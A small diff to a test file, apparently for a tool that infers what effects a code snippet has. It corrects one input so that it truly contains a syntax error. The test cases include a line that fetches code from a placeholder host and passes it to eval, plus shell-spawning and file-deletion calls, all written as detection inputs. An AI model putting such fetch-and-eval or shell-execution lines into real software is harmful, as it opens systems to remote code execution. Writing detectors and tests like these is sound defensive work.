@@ -88,7 +88,7 @@ describe('what is not seen', () => {
     ["process.binding('spawn_sync')", 'opaque: what the interpreter is bound to'],
     ["fetch('https://a.example').then(r => r.text()).then(eval)", unseenCode],
     ['f(child_process.execSync)', 'opaque: a shell text that is known only when it runs'],
-    ['const x: number = 1', 'opaque: a program text with a syntax error'],
+    ['const x: = 1', 'opaque: a program text with a syntax error'],
     ['with (fs) unlinkSync("a")', 'opaque: a program text with a syntax error'],
   ])('%s', (text, expected) => {
     expect(effectsOf(text)).toContain(expected);
